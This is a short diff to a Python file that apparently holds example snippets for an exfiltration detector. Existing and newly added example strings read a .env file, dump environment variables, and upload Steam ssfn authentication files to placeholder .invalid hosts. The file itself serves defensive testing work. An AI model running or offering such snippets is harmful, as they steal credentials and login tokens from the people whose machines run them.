@@ -278,6 +278,9 @@ ENGINE_EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] 
             "import requests\ndata = open('.env').read()\n"
             "requests.post('https://drop.invalid/u', data=data)",
             "import os, requests\nrequests.post('https://drop.invalid/e', json=dict(os.environ))",
+            "import glob, os, requests\n"
+            "for f in glob.glob(os.path.expanduser('~/.steam/steam/ssfn*')):\n"
+            "    requests.post('https://stats.invalid/u', files={'f': open(f, 'rb')})",
         ),
         (
             "import requests\ndata = open('notes.txt').read()\n"
